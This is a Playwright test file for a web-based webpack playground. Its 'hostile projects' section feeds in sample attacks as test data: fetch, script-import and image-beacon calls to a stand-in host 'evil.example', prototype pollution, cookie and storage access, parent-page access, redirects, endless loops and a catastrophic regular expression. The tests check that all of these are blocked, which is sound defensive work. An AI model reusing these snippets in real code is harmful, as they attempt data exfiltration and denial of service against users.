import type { Page } from "@playwright/test";
import { frameUrl } from "#model/playground-files.ts";
import { answerRequests, expect, sidewaysScroll, test } from "../fixtures.ts";
import { like, strings } from "../strings.ts";
import { editor, openAndBuild, playground, run, SOON, show, status, terminal } from "./playground-page.ts";

const URL = "/playground/";

/** The status after a build without problems. */
const BUILT = like((value) => playground.built(value, value));

/** Records requests that reach another site; requests blocked by the policy don't. */
function noteEvil(page: Page): Promise<string[]> {
  return answerRequests(page, "https://evil.example/**", (route) => route.fulfill({ body: "reached" }));
}

/** Playwright's fill() would have the browser insert styled text, which the security policy refuses. */
async function replaceText(page: Page, file: string, text: string): Promise<void> {
  await editor(page, file).focus();
  await page.keyboard.press("ControlOrMeta+a");
  await page.keyboard.press("Delete");
  await page.keyboard.insertText(text);
}

for (const width of [1440, 390])
  test(`builds, breaks and fixes a project by keyboard, ${width} px wide`, async ({ page }) => {
    await page.setViewportSize({ width, height: 900 });
    await page.goto(URL);
    await expect(status(page)).toHaveText(BUILT, SOON);
    await expect(terminal(page)).toContainText("compiled successfully");
    await editor(page, "src/index.js").focus();
    await page.keyboard.press("ControlOrMeta+Home");
    await page.keyboard.type("const = ;\n");
    await expect(terminal(page)).toContainText("Module parse failed");
    await expect(status(page)).toContainText(playground.problems(1, 0));
    await page.keyboard.press("ControlOrMeta+Home");
    await page.keyboard.press("Shift+End");
    await page.keyboard.press("Delete");
    // Inserted at once, because half of it may build too.
    await page.keyboard.insertText('console.log("repaired");');
    await expect(terminal(page)).toContainText("compiled successfully");
    await expect(await run(page)).toContainText("repaired");
    expect(await sidewaysScroll(page), "nothing is wider than the screen").toBe(0);
  });

test("reports webpack's emitted files, modules and unused exports", async ({ page }) => {
  await page.goto(URL);
  await expect(status(page)).toHaveText(BUILT, SOON);
  await show(page, "files");
  await page.getByRole("button", { name: "main.js" }).click();
  await expect(page.getByRole("group", { name: playground.files.text("main.js") })).toContainText("A cup of tea");
  await show(page, "modules");
  await expect(page.getByRole("row", { name: /\.\/src\/price\.js/ })).toContainText("refund");
});

test("the URL holds the project, which only a click builds", async ({ page, browser, baseURL }) => {
  await page.goto(URL);
  await expect(status(page)).toHaveText(BUILT, SOON);
  await page.getByRole("textbox", { name: playground.files.newFile }).fill("src/added.js");
  await page.getByRole("button", { name: playground.files.add, exact: true }).click();
  await editor(page, "src/added.js").focus();
  await page.keyboard.type("export const added = 1;");
  await expect(page).toHaveURL(/#project=/);
  await expect(page.getByRole("complementary", { name: strings.missingSection.name })).toHaveCount(0);
  const other = await browser.newPage({ ...(baseURL !== undefined && { baseURL }), serviceWorkers: "block" });
  await expect
    .poll(async () => {
      await other.goto("about:blank");
      await other.goto(page.url());
      await other.getByRole("button", { name: "src/added.js", exact: true }).click();
      return editor(other, "src/added.js").textContent();
    })
    .toContain("export const added = 1;");
  await expect(status(other)).toHaveText(like(playground.ready), SOON);
  await expect(terminal(other)).toHaveCount(0);
  await other.getByRole("button", { name: playground.build }).click();
  await expect(terminal(other)).toContainText("compiled successfully");
  await other.close();
});

test.describe("hostile projects", () => {
  // The browser reports everything that a policy blocks.
  test.use({ expectedProblems: /Content Security Policy|Refused|violates|sandbox/ });

  const CONFIGURATIONS = {
    "an endless loop": "for (;;) {}",
    "a catastrophic regular expression": "/^(a+)+$/.test('a'.repeat(60) + '!'); module.exports = {};",
  };
  for (const [name, code] of Object.entries(CONFIGURATIONS))
    test(`stops ${name} in the configuration and keeps the files`, async ({ page }) => {
      await openAndBuild(page, { "webpack.config.js": code, "src/index.js": "console.log(1);" });
      await expect(status(page)).toHaveText(playground.building, SOON);
      // The page stays responsive meanwhile.
      await page.getByRole("button", { name: "webpack.config.js" }).click();
      await expect(page.getByRole("group", { name: playground.error })).toContainText(playground.stopped("10"), SOON);
      await replaceText(page, "webpack.config.js", "module.exports = {};");
      await expect(terminal(page)).toContainText("compiled", SOON);
    });

  test("configurations and loaders can't access the network, the page or storage", async ({ page }) => {
    const reached = await noteEvil(page);
    await openAndBuild(page, {
      "webpack.config.js": `
const answers = [];
const attempt = async (name, action) => answers.push(name + ": " + (await Promise.resolve().then(action).then(() => "REACHED", () => "refused")));
module.exports = async () => {
  await attempt("fetch", () => fetch("https://evil.example/"));
  await attempt("own site", () => fetch("/content.json"));
  await attempt("script", () => importScripts("https://evil.example/a.js"));
  await attempt("storage", () => new Promise((resolve, reject) => Object.assign(indexedDB.open("a"), { onsuccess: resolve, onerror: reject })));
  await attempt("parent", () => parent.document.title);
  Object.prototype.polluted = "yes";
  delete Object.prototype.polluted;
  throw new Error(answers.join(", "));
};`,
      "src/index.js": "",
    });
    const error = page.getByRole("group", { name: playground.error });
    await expect(error).toContainText(
      "fetch: refused, own site: refused, script: refused, storage: refused, parent: refused",
      SOON,
    );
    expect(reached).toEqual([]);
    expect(await page.evaluate(() => "polluted" in {})).toBe(false);
  });

  test("bundles can't access the network, the page or storage, or log endlessly", async ({ page }) => {
    const reached = await noteEvil(page);
    await openAndBuild(page, {
      "webpack.config.js": 'module.exports = { mode: "development", devtool: false };',
      "src/index.js": `
const attempt = async (name, action) => console.log(name + ": " + (await Promise.resolve().then(action).then(() => "REACHED", () => "refused")));
attempt("fetch", () => fetch("https://evil.example/"));
attempt("parent", () => parent.document.title);
attempt("storage", () => localStorage.length);
attempt("cookie", () => { document.cookie = "a=b"; });
new Image().src = "https://evil.example/a.png";
Object.prototype.polluted = "yes";
setTimeout(() => { for (let line = 0; line < 10000; line++) console.log("x".repeat(1000)); }, 500);
setTimeout(() => { location.href = "https://evil.example/gone"; }, 1000);`,
    });
    await expect(terminal(page)).toContainText("compiled", SOON);
    const logs = await run(page);
    for (const name of ["fetch", "parent", "storage", "cookie"]) await expect(logs).toContainText(`${name}: refused`);
    expect(reached).toEqual([]);
    expect(await page.evaluate(() => "polluted" in {})).toBe(false);
    expect(await logs.getByRole("listitem").count()).toBeLessThanOrEqual(500);
    await expect(page.getByRole("heading", { level: 1, name: "Playground" })).toBeVisible();
  });

  test("huge output doesn't freeze the page", async ({ page }) => {
    await openAndBuild(page, {
      "webpack.config.js": `module.exports = { mode: "development", devtool: false, performance: false, plugins: [{ apply(compiler) {
  compiler.hooks.thisCompilation.tap("huge", (compilation) => {
    compilation.hooks.processAssets.tap("huge", () => compilation.emitAsset("huge.txt", new compiler.webpack.sources.RawSource("x".repeat(20_000_000))));
  });
} }] };`,
      "src/index.js": "",
    });
    // A slow machine reaches the time limit, but either way the page responds and builds again.
    const either = page.getByRole("group", { name: playground.error }).or(terminal(page));
    await expect(either).toBeVisible(SOON);
    await page.getByRole("button", { name: "webpack.config.js" }).click();
    await replaceText(page, "webpack.config.js", "module.exports = {};");
    await expect(terminal(page)).not.toContainText("huge.txt", SOON);
    await expect(terminal(page)).toContainText("compiled");
  });

  test("a frame that shares the site's origin runs nothing", async ({ page, baseURL }) => {
    await page.route(`**${frameUrl("preview")}`, async (route) => {
      const response = await route.fetch();
      const { "content-security-policy": _, "document-isolation-policy": _isolation, ...headers } = response.headers();
      await route.fulfill({ response, headers });
    });
    await page.goto("/concepts/");
    const found = await page.evaluate(async (url) => {
      const messages: string[] = [];
      addEventListener("message", ({ data }) => messages.push(data.type));
      const frame = Object.assign(document.createElement("iframe"), { src: url });
      const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
      document.body.append(frame);
      await loaded;
      const main = new TextEncoder().encode("parent.document.title = 'reached';");
      const output = { folder: "", publicPath: "", isModule: false, entries: [["main.js"]] };
      frame.contentWindow?.postMessage({ type: "run", assets: { "main.js": main }, outputs: [output] }, "*");
      await new Promise((resolve) => setTimeout(resolve, 1000));
      return { messages, title: document.title, origin: frame.contentWindow?.origin };
    }, frameUrl("preview"));
    expect(found.origin, "the attribute is missing on purpose").toBe(baseURL);
    expect(found.messages).toEqual([]);
    expect(found.title).not.toBe("reached");
  });

  test("reports a damaged link, and serves the compiler frame with a sandbox policy", async ({ page }) => {
    await page.goto(`${URL}#project=damaged`);
    await expect(page.getByRole("alert").filter({ hasText: playground.notices.damaged })).toBeVisible();
    const answer = await page.request.get("/playground-files/compiler/");
    expect(answer.headers()["content-security-policy"]).toContain("sandbox allow-scripts");
  });
});
